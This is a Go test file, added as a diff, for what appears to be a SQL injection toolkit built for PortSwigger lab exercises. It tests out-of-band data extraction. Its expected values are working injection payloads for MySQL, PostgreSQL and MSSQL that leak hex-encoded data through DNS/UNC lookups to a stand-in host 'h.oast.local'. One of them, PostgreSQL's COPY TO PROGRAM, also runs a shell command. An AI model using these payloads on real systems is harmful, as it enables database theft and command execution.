@@ -0,0 +1,106 @@
+package sqli
+
+import (
+	"encoding/binary"
+	"encoding/hex"
+	"strings"
+	"testing"
+	"unicode/utf16"
+
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/constant"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/oast"
+)
+
+// hexLabel returns the label a database sends for the value, hex-encoded from UTF-16LE
+// as SQL Server encodes nvarchar values, or from UTF-8 like the other databases.
+func hexLabel(value string, isUTF16 bool) string {
+	encoded := []byte(value)
+	if isUTF16 {
+		encoded = nil
+		for _, unit := range utf16.Encode([]rune(value)) {
+			encoded = binary.LittleEndian.AppendUint16(encoded, unit)
+		}
+	}
+	return "x" + strings.ToUpper(hex.EncodeToString(encoded))
+}
+
+func TestDecodeCallback(t *testing.T) {
+	tests := []struct {
+		name    string
+		db      constant.Database
+		value   string
+		label   string // Sent instead of the value's label when set
+		wantErr bool
+	}{
+		{"postgresql", constant.POSTGRESQL, "administrator", "", false},
+		{"postgresql multibyte", constant.POSTGRESQL, "päss ✓", "", false},
+		{"mssql varchar cast to nvarchar", constant.MSSQL, "qzxoobtest", "", false},
+		{"mssql N'' value", constant.MSSQL, "Müller ✓", "", false},
+		{"mssql surrogate pair", constant.MSSQL, "𝄞a", "", false},
+		{"empty", constant.MSSQL, "", "", false},
+		{"not hex", constant.POSTGRESQL, "", "xzz", true},
+		{"odd utf-16 bytes", constant.MSSQL, "", "x616263", true},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			label := test.label
+			if label == "" {
+				label = hexLabel(test.value, test.db.HexUTF16)
+			}
+			value, err := decodeCallback(oast.Interaction{Protocol: "dns", Data: label}, test.db.HexUTF16)
+			if test.wantErr {
+				if err == nil {
+					t.Fatalf("got %q, want an error", value)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			if value != test.value {
+				t.Errorf("got %q, want %q", value, test.value)
+			}
+		})
+	}
+}
+
+func TestOOBPayloadHexEncodesStrings(t *testing.T) {
+	tests := []struct {
+		db   constant.Database
+		want string
+	}{
+		{constant.MSSQL, "CONVERT(varbinary(max),CAST(N'Müller' AS nvarchar(max)))"},
+		{constant.POSTGRESQL, "encode(convert_to(CAST(N'Müller' AS text),'UTF8'),'hex')"},
+	}
+	for _, test := range tests {
+		t.Run(test.db.Name, func(t *testing.T) {
+			if got := test.db.Hex("N'Müller'"); !strings.Contains(got, test.want) {
+				t.Errorf("got %s, want it to contain %s", got, test.want)
+			}
+		})
+	}
+}
+
+func TestOOBPayload(t *testing.T) {
+	balanced := Boundary{Context: "single quote", Prefix: "'", Suffix: " AND 'qzx'='qzx", Operator: "AND"}
+	commented := Boundary{Context: "single quote", Prefix: "'", Suffix: "#", Comment: "#", Operator: "AND"}
+	tests := []struct {
+		name     string
+		db       constant.Database
+		boundary Boundary
+		want     string
+	}{
+		{"condition keeps the balance", constant.MYSQL, balanced, "' AND LOAD_FILE(CONCAT(0x5c5c,'x',(HEX(CAST(v AS char))),'.h.oast.local',0x5c61)) AND 'qzx'='qzx"},
+		{"condition keeps the comment", constant.MYSQL, commented, "' AND LOAD_FILE(CONCAT(0x5c5c,'x',(HEX(CAST(v AS char))),'.h.oast.local',0x5c61))#"},
+		{"statement is commented out", constant.POSTGRESQL, balanced, "'; DO $$BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''nslookup x'||(encode(convert_to(CAST(v AS text),'UTF8'),'hex'))||'.h.oast.local'''; END$$--"},
+		{"statement keeps the comment", constant.MSSQL, commented, "'; DECLARE @h varchar(1024);SET @h='x'+(CONVERT(varchar(max),CONVERT(varbinary(max),CAST(v AS nvarchar(max))),2));EXEC('master..xp_dirtree \"\\\\'+@h+'.h.oast.local\\a\"')#"},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			extractor := &OOBExtractor{boundary: test.boundary, db: test.db}
+			if got := extractor.payload("v", "h.oast.local"); got != test.want {
+				t.Errorf("got  %s\nwant %s", got, test.want)
+			}
+		})
+	}
+}